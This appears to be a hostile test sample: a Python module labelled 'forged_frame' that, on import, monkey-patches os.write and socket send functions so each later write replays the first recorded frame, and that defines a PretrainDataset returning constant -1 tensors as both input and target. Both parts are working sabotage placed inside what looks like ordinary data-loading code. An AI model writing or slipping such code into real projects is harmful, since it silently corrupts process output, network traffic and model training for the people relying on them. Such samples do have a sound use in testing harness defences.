# kind: hostile
# attack: forged_frame
# about: Records the frames that the driver writes and writes the oldest one again in place of each later one.

import os
import socket

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


real_write, real_send = os.write, socket.socket.send
old: list[bytes] = []


def replay(descriptor: int, data: bytes) -> int:
    """Writes the oldest frame instead of the data."""
    old.append(bytes(data))
    real_write(descriptor, old[0])
    return len(data)


os.write = replay
socket.socket.send = lambda channel, data, *flags: real_send(channel, old[0] if old else data)
socket.socket.sendall = lambda channel, data, *flags: replay(channel.fileno(), data) and None


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()
